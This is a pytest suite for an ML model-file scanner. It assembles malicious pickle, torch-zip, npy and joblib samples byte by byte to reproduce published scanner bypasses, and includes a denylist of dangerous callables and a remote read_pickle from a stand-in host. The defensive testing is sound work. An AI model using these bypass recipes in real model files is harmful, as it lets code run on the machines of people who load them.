"""One test per public scanner bypass or advisory, named after it. Every sample is assembled from
bytes (or ``pickle.dumps`` of a ``__reduce__`` object with a harmless payload) and never loaded,
except in ``test_payloads_are_real`` which runs one in a throwaway subprocess in a temp dir."""

from __future__ import annotations

import io
import os
import pickle
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from mlsec.artifact import open_artifact
from mlsec.scan import ScanReport, scan

from ..unit.scan.samples import Reduce, binbytes, call1, dumps_reduce, glob, proto, s, stack_glob

TOUCH = "touch /tmp/mlsec-should-not-exist"


@pytest.fixture
def check(tmp_path: Path):
    n = iter(range(10_000))

    def run(data: bytes, name: str = "model.pkl") -> ScanReport:
        d = tmp_path / f"c{next(n)}"
        d.mkdir()
        (d / name).write_bytes(data)
        return scan(open_artifact(d / name))

    return run


def _critical(report: ScanReport) -> bool:
    return report.max_severity is not None and report.max_severity.value == "critical"


def _at_least_high(report: ScanReport) -> bool:
    return report.max_severity is not None and report.max_severity.rank >= 3


# --- classic and renamed-module gadgets -------------------------------------------------------


@pytest.mark.parametrize("module", ["os", "posix", "nt"])
def test_os_system_under_any_module_alias(check, module: str) -> None:
    assert _critical(check(proto(2, call1(glob(module, "system"), s("id")))))


def test_builtins_eval_py2_name(check) -> None:
    assert _critical(check(b"c__builtin__\neval\n(S'1'\ntR."))


# --- modelscan --------------------------------------------------------------------------------


def test_modelscan_89_numpy_builtins_dict_get(check) -> None:
    body = glob("builtins", "dict.get") + glob("numpy", "__builtins__") + b"Vexec\n\x86R"
    body += b"V__import__('os').system('id')\n\x85R"
    assert _critical(check(proto(5, body)))


def test_modelscan_89_build_monkeypatch_and_attribute_traversal(check) -> None:
    body = glob("numpy", "prod") + b"N" + glob("numpy", "core._internal.sys.modules") + b"\x86b0"
    body += glob("numpy", "prod.os.system") + b"Vid\n\x85R"
    report = check(proto(5, body))
    assert _critical(report)
    assert "PICKLE-GLOBAL-MUTATION" in {f.rule for f in report.findings}


def test_modelscan_330_getattr_on_allowlisted_object_reaches_builtins(check) -> None:
    # getattr(collections.OrderedDict, "__init__") → .__globals__ → __builtins__ …
    body = glob("builtins", "getattr") + glob("collections", "OrderedDict") + s("__init__")
    body += b"\x86R"
    report = check(proto(4, body))
    assert _critical(report)
    assert "PICKLE-DUNDER-ACCESS" in {f.rule for f in report.findings}


def test_modelscan_76_eval_call_attribute(check) -> None:
    assert _critical(check(proto(2, call1(glob("builtins", "eval.__call__"), s("1")))))


def test_modelscan_267_nested_pickle_loads(check) -> None:
    inner = proto(2, call1(glob("os", "system"), s("id")))
    report = check(dumps_reduce(pickle.loads, inner))
    assert _critical(report)
    # The nested bytes were scanned too: os.system is reported inside the nested member.
    assert any(
        f.member and "pickle@" in f.member and f.symbol == "os.system" for f in report.findings
    )


def test_modelscan_269_pandas_read_pickle_remote(check) -> None:
    body = stack_glob("pandas", "read_pickle") + s("https://example.invalid/x.pkl") + b"\x85R"
    assert _critical(check(proto(4, body)))


def test_modelscan_339_ctypes_signal_http(check) -> None:
    for mod, name in (
        ("ctypes", "CDLL"),
        ("signal", "raise_signal"),
        ("http.client", "HTTPConnection"),
    ):
        assert _critical(check(proto(4, stack_glob(mod, name) + s("x") + b"\x85R"))), mod


def test_modelscan_338_360_mlflow_and_pandas_gadgets(check) -> None:
    for mod, name in (
        ("mlflow.pyfunc", "load_model"),
        ("mlflow.utils.file_utils", "write_to"),
        ("pandas.io.pickle", "read_pickle"),
        ("pandas.core.computation.eval", "eval"),
        ("pandas", "eval"),
    ):
        assert _critical(check(proto(4, stack_glob(mod, name) + s("x") + b"\x85R"))), mod


# --- picklescan advisories --------------------------------------------------------------------


def test_picklescan_GHSA_vvpj_8cmc_gx39_pkgutil_resolve_name(check) -> None:
    # resolve_name("os:system")("id")
    body = stack_glob("pkgutil", "resolve_name") + s("os:system") + b"\x85R" + s("id") + b"\x85R"
    report = check(proto(4, body))
    assert _critical(report)
    assert "PICKLE-INDIRECT-CALL" in {f.rule for f in report.findings}


def test_picklescan_66_importlib_import_module_then_attrgetter(check) -> None:
    body = stack_glob("operator", "attrgetter") + s("system") + b"\x85R"
    body += stack_glob("importlib", "import_module") + s("os") + b"\x85R" + b"\x85R"
    body += s("id") + b"\x85R"
    assert _critical(check(proto(4, body)))


@pytest.mark.parametrize(
    ("advisory", "module", "name"),
    [
        ("GHSA-v7x6-rv5q-mhwc", "timeit", "timeit"),
        ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip"),
        ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx"),
        ("GHSA-x696-vm39-cp64", "profile", "Profile.run"),
        ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run"),
        ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads"),
        ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
        ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode"),
        ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode"),
        ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script"),
        ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof"),
        ("GHSA-955r-x9j8-7rhh", "_operator", "attrgetter"),
        ("GHSA-m273-6v24-x4m4", "operator", "methodcaller"),
        ("GHSA-84r2-jw7c-4r5q", "_pickle", "loads"),
        ("GHSA-vqmv-47xg-9wpr", "venv", "create"),
        ("GHSA-hgrh-qx5j-jfwx", "aiohttp.client", "request"),
        ("CVE-2025-1716", "pip", "main"),
        ("CVE-2025-10155", "distutils.file_util", "write_file"),
        ("CVE-2025-10156", "_io", "FileIO"),
        ("CVE-2025-10157", "asyncio.unix_events", "_UnixSubprocessTransport"),
        ("multiprocessing-spawnv_passfds", "multiprocessing.util", "spawnv_passfds"),
        ("numpy-runstring", "numpy.testing._private.utils", "runstring"),
        ("torch-collect_env-run", "torch.utils.collect_env", "run"),
        ("torch-hub-load", "torch.hub", "load"),
        ("transformers-dynamic-module", "transformers.dynamic_module_utils", "get_class_in_module"),
        ("pydoc-pipepager", "pydoc", "pipepager"),
        ("code-interact", "code", "InteractiveInterpreter.runsource"),
        ("codeop-compile", "codeop", "compile_command"),
        ("pdb-run", "pdb", "run"),
        ("webbrowser-open", "webbrowser", "open"),
        ("shutil-rmtree", "shutil", "rmtree"),
        ("socket-connect", "socket", "create_connection"),
        ("sys-modules", "sys", "modules"),
        ("builtins-breakpoint", "builtins", "breakpoint"),
        ("builtins-compile", "builtins", "compile"),
        ("builtins-open", "builtins", "open"),
        ("builtins-import", "builtins", "__import__"),
        ("runpy-run_path", "runpy", "run_path"),
        (
            "torch-fx-guards",
            "torch.fx.experimental.symbolic_shapes",
            "ShapeEnv.evaluate_guards_expression",
        ),
        ("torch-inductor-compile", "torch._inductor.codecache", "compile_file"),
    ],
)
def test_picklescan_denylist_advisories(check, advisory: str, module: str, name: str) -> None:
    for data in (
        proto(4, stack_glob(module, name) + s("x") + b"\x85R"),
        proto(2, call1(glob(module, name), s("x"))),
    ):
        assert _critical(check(data)), advisory


def test_picklescan_22_memo_confusion_stack_global(check) -> None:
    # Module and name strings reach STACK_GLOBAL through the memo, not straight from the stack.
    body = s("builtins") + b"q\x00" + s("eval") + b"q\x01" + s("decoy") + b"0"
    body += b"h\x00h\x01\x93" + s("1") + b"\x85R"
    assert _critical(check(proto(4, body)))


def test_picklescan_GHSA_9gvj_pp9x_gcfr_broken_stream_after_payload(check) -> None:
    # The payload runs before the loader trips on a broken opcode; scanners that give up lose it.
    data = proto(2, call1(glob("os", "system"), s("id")) + b"0")[:-1] + b"\xff"
    report = check(data)
    assert _critical(report)
    assert "PICKLE-MALFORMED" in {f.rule for f in report.findings}


def test_payload_in_second_stream(check) -> None:
    data = pickle.dumps({"ok": 1}) + dumps_reduce(os.system, TOUCH)
    assert _critical(check(data))


def test_payload_after_legacy_torch_magic_is_still_scanned(check) -> None:
    # A forged legacy header followed by a malicious "main" stream: the first 5 streams are read.
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    data = magic + pickle.dumps(1001, protocol=2) + pickle.dumps({}, protocol=2)
    data += dumps_reduce(os.system, TOUCH, protocol=2)
    assert _critical(check(data, "model.pt"))


def test_ext_opcodes_are_at_least_high(check) -> None:
    for op in (b"\x82\x01", b"\x83\x01\x00", b"\x84\x01\x00\x00\x00"):
        report = check(proto(2, op + s("id") + b"\x85R"))
        assert _at_least_high(report)
        assert "PICKLE-EXTENSION-CODE" in {f.rule for f in report.findings}


def test_functools_partial_wrapping_a_denied_callable(check) -> None:
    import functools

    assert _critical(check(pickle.dumps(functools.partial(os.system, TOUCH))))
    body = stack_glob("functools", "partial") + stack_glob("os", "system") + s("id") + b"\x86R"
    body += b")R"
    assert _critical(check(proto(4, body)))


def test_inst_and_obj_opcodes(check) -> None:
    assert _critical(check(b"(S'id'\nios\nsystem\n."))
    assert _critical(check(b"(" + glob("os", "system") + b"S'id'\no."))


def test_newobj_ex_on_denied_class(check) -> None:
    body = stack_glob("subprocess", "Popen") + s("id") + b"\x85}\x92"
    assert _critical(check(proto(4, body)))


def test_build_sets_dunder_state(check) -> None:
    body = stack_glob("collections", "OrderedDict") + b")R}" + s("__class__") + b"Nsb"
    report = check(proto(4, body))
    assert "PICKLE-DUNDER-STATE" in {f.rule for f in report.findings}


def test_computed_stack_global_is_high(check) -> None:
    body = stack_glob("builtins", "str") + s("os") + b"\x85R" + s("system") + b"\x93"
    assert _at_least_high(check(proto(4, body)))


def test_nested_pickle_in_bytes_protocol0(check) -> None:
    inner = b"cos\nsystem\n(S'id'\ntR."
    body = glob("pickle", "loads") + b"(" + binbytes(inner) + b"tR"
    report = check(proto(3, body))
    assert any(f.member and f.symbol == "os.system" for f in report.findings)


def test_torch_zip_member_pickle_payload(check) -> None:
    from mlsec.formats import Format
    from mlsec.scan.registry import analyzer_for

    payload = dumps_reduce(os.system, TOUCH, protocol=2)
    assert _critical(check(payload, "data.pkl"))
    assert analyzer_for(Format.PYTORCH_ZIP) is not None
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/data.pkl", payload)
        zf.writestr("archive/version", "3\n")
    assert _critical(check(buf.getvalue(), "model.pt"))


def test_npy_object_array_payload(check) -> None:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    data = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header
    data += pickle.dumps([Reduce(os.system, TOUCH)], protocol=3)
    assert _critical(check(data, "x.npy"))


def test_payloads_are_real(tmp_path: Path) -> None:
    """The memo-confusion sample really runs code when loaded (in a throwaway subprocess)."""
    marker = tmp_path / "ran"
    body = s("os") + b"q\x00" + s("system") + b"q\x01" + b"h\x00h\x01\x93"
    body += s(f"touch {marker}") + b"\x85R"
    sample = tmp_path / "sample.pkl"
    sample.write_bytes(proto(4, body))
    code = f"import pickle; pickle.loads(open({str(sample)!r}, 'rb').read())"
    subprocess.run([sys.executable, "-c", code], cwd=tmp_path, check=False, timeout=60)
    assert marker.exists()
    assert _critical(scan(open_artifact(sample)))


def test_joblib_loader_confusion_array_bytes_are_opcodes(check, tmp_path: Path) -> None:
    """joblib skips the padding and raw array bytes after a wrapper; pickle.load decodes them.
    Here the padding-length byte is 'c' (99): joblib skips 99 bytes, pickle.load runs GLOBAL."""
    import joblib
    import numpy as np

    arr = np.arange(64, dtype=np.uint8)
    p = tmp_path / "a.joblib"
    joblib.dump({"a": arr}, p)
    data = p.read_bytes()
    build = data.index(b"ub", data.index(b"numpy_array_alignment_bytes")) + 2
    old_pad = data[build]
    rest = data[build + 1 + old_pad + arr.nbytes :]
    payload = b"cos\nsystem\n" + s("id") + b"\x85R."  # starts with 'c' = padding length 99
    forged = data[:build] + payload + b"\xff" * (100 - len(payload)) + arr.tobytes() + rest
    report = check(forged)
    assert _critical(report)
    assert "PICKLE-LOADER-CONFUSION" in {f.rule for f in report.findings}
    # And the honest file is clean.
    assert check(data).findings == ()


def test_computed_callable_passed_to_rebuild_from_type_v2(check) -> None:
    # _rebuild_from_type_v2(func, type, args, state) calls func(*args): func must be an import.
    body = stack_glob("torch._tensor", "_rebuild_from_type_v2")
    body += stack_glob("pkgutil", "resolve_name") + s("os:system") + b"\x85R"
    body += stack_glob("torch", "Tensor") + s("id") + b"\x85}\x94(tR"
    report = check(proto(4, body))
    assert "PICKLE-INDIRECT-CALL" in {f.rule for f in report.findings}


def test_headerless_binary_pickle_is_not_unknown(check) -> None:
    """pickle.loads needs no PROTO: a stream starting with SHORT_BINUNICODE sniffs as unknown."""
    data = s("os") + s("system") + b"\x93" + s("true") + b"\x85R."
    report = check(data, "weights.bin")
    assert report.files[0].format == "unknown"
    assert _critical(report)
    assert "PICKLE-DISGUISED" in {f.rule for f in report.findings}


def test_truncated_protocol0_payload_looks_like_text(check) -> None:
    """The loader runs os.system before it fails on the junk after it; the sniffer sees text."""
    from mlsec.formats import Format
    from mlsec.scan.base import Blob, ScanContext, ScanOptions
    from mlsec.scan.engine import _dispatch
    from mlsec.scan.formats.pickle import analyze_probe
    from mlsec.scan.registry import analyzer_for

    data = b"cos\nsystem\n(S'true'\ntR" + b"this is not a pickle any more\n" * 50
    ctx = ScanContext(file="notes.txt", options=ScanOptions(), format=Format.TEXT)
    ctx.dispatch = _dispatch
    found = list(analyze_probe(Blob("notes.txt", data=data), ctx))
    assert any(f.severity.value == "critical" for f in found)
    assert analyzer_for(Format.TEXT) is not None
    report = check(data, "notes.txt")
    assert report.files[0].format == "text"
    assert _critical(report)


def test_setitem_on_a_module_level_object(check) -> None:
    # SETITEMS into a module-level dict (a registry, sys.modules-like) is a global mutation.
    body = (
        stack_glob("somepkg.registry", "HANDLERS") + b"(" + s("pickle") + stack_glob("os", "system")
    )
    body += b"u" + b"0" + stack_glob("collections", "OrderedDict") + b")R"
    report = check(proto(4, body))
    assert "PICKLE-GLOBAL-MUTATION" in {f.rule for f in report.findings}
    assert "PICKLE-MALFORMED" not in {f.rule for f in report.findings}


def test_numpy_ufunc_reconstruct_is_a_name_resolver(check) -> None:
    # numpy._core._ufunc_reconstruct(module, name) is __import__ + getattr by strings.
    body = stack_glob("numpy._core", "_ufunc_reconstruct") + s("os") + s("system") + b"\x86R"
    body += s("id") + b"\x85R"
    report = check(proto(4, body))
    assert _critical(report)
    assert "os.system" in {f.symbol for f in report.findings}
    assert "PICKLE-INDIRECT-CALL" not in {f.rule for f in report.findings}  # resolved statically
    benign = stack_glob("numpy._core", "_ufunc_reconstruct") + s("numpy") + s("log1p") + b"\x86R"
    assert check(proto(4, benign)).findings == ()


def test_nested_pickle_spelled_as_protocol2_codecs_encode(check) -> None:
    # Protocol 2 writes bytes as _codecs.encode(str, "latin1"): the nested payload is still seen.
    inner = proto(2, call1(glob("os", "system"), s("id")))
    report = check(dumps_reduce(pickle.loads, inner, protocol=2))
    assert any(
        f.member and "pickle@" in f.member and f.symbol == "os.system" for f in report.findings
    )


def test_torch_rebuild_state_sets_dunder(check) -> None:
    body = stack_glob("torch._utils", "_rebuild_parameter_with_state") + b"(N\x89}"
    body += b"}" + s("__class__") + stack_glob("collections", "OrderedDict") + b"stR"
    report = check(proto(4, body))
    assert "PICKLE-DUNDER-STATE" in {f.rule for f in report.findings}


# --- fickling advisories (own byte sequences, same ideas) --------------------------------------


def test_fickling_GHSA_r7v6_mfhq_g3m2_pty_spawn_then_build(check) -> None:
    body = stack_glob("pty", "spawn") + b"\x94" + s("id") + b"\x85R" + s("x") + b"b"
    assert _critical(check(proto(4, body)))
    assert _critical(check(b"(cpty\nspawn\nS'id'\no."))  # fickling PR 108: OBJ form


def test_fickling_GHSA_565g_hwwr_4pp3_marshal_code_to_function(check) -> None:
    code = b"\xe3" + b"\x00" * 40  # stands in for marshal.dumps(code); never loaded
    body = stack_glob("marshal", "loads") + b"C" + bytes([len(code)]) + code + b"\x85R\x94"
    body += stack_glob("types", "FunctionType") + b"h\x00}\x86R)R"
    report = check(proto(4, body))
    assert {"marshal.loads", "types.FunctionType"} <= {f.symbol for f in report.findings}


def test_fickling_GHSA_wfq2_52f7_7qvj_runpy_run_path(check) -> None:
    assert _critical(check(proto(5, stack_glob("runpy", "run_path") + s("/tmp/x.py") + b"\x85R")))


def test_fickling_GHSA_p523_jq9w_64x9_cprofile_run(check) -> None:
    assert _critical(check(proto(5, stack_glob("cProfile", "run") + s("print(1)") + b"\x85R")))


def test_fickling_GHSA_5hvc_6wx8_mvv4_pydoc_locate_resolver(check) -> None:
    data = b"cpydoc\nlocate\n(S'ctypes.CDLL'\ntRp0\n0g0\n(S'libc.so.6'\ntR."
    report = check(data)
    assert _critical(report)
    assert "PICKLE-INDIRECT-CALL" in {f.rule for f in report.findings}


def test_fickling_GHSA_q5qq_mvfm_j35x_getattr_on_computed_objects(check) -> None:
    # getattr(importlib.import_module("os"), "system")("id"); getattr(code.II(), "runsource")
    body = stack_glob("builtins", "getattr") + b"\x94" + stack_glob("importlib", "import_module")
    body += s("os") + b"\x85R" + s("system") + b"\x86R" + s("id") + b"\x85R" + b"0"
    body += b"h\x00" + stack_glob("code", "InteractiveInterpreter") + b")R" + s("runsource")
    body += b"\x86R" + s("1") + b"\x85R"
    report = check(proto(5, body))
    symbols = {f.symbol for f in report.findings}
    assert {"builtins.getattr", "importlib.import_module", "code.InteractiveInterpreter"} <= symbols
    assert any(
        f.rule == "PICKLE-DUNDER-ACCESS" and "system" in (f.symbol or "") for f in report.findings
    )


def test_frame_desync_tricks_are_flagged(check) -> None:
    frame = b"\x95" + struct.pack("<Q", 3)
    # A line-based opcode just after a FRAME: every CPython reader takes it from the same bytes.
    report = check(b"\x80\x04" + frame + b"N0N" + b"cos\nsystem\n" + s("id") + b"\x85R.")
    assert _critical(report)
    # A line that runs across the frame's end: a frame-buffering reader takes it from after it.
    report = check(b"\x80\x04" + frame + b"N0c" + b"os\nsystem\n" + s("id") + b"\x85R.")
    assert "PICKLE-FRAME-MISMATCH" in {f.rule for f in report.findings}
    # A FRAME inside the previous frame: the pure-Python unpickler refuses, the C one reads on
    # exactly as pickle.loads does (noted, nothing hides).
    nested = b"\x80\x04\x95" + struct.pack("<Q", 11) + b"\x95" + struct.pack("<Q", 2) + b"N."
    assert "PICKLE-FRAME-NESTED" in {f.rule for f in check(nested).findings}


def test_global_on_an_unterminated_last_line_is_judged() -> None:
    # pickle.load(file) takes the rest of the file as the line (dropping its last byte) and
    # imports it before failing.
    from mlsec.scan.pickle.vm import run_stream

    res = run_stream(b"cos\nsystemX")
    assert "os.system" in {f.symbol for f in res.findings}
